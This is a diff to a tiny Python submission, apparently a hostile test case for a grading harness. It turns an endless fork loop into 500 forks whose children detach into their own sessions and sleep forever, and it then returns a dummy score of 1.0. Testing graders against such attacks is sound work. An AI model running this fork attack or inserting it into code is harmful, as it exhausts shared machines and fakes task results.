@@ -1,8 +1,11 @@
-"""Forks for ever in a function, each child in a session of its own. They all end with the submission: no points."""
+"""Forks as often as it can in a function, each child in a session of its own. They all end with the submission: no points."""
 # %% task="rate"
-import os
+import os, signal
 def rate(f, a, b):
-    while True:
+    for _ in range(500):
         try:
-            if os.fork() == 0: os.setsid()
+            if os.fork() == 0:
+                os.setsid()
+                signal.pause()
         except OSError: pass
+    return 1.0
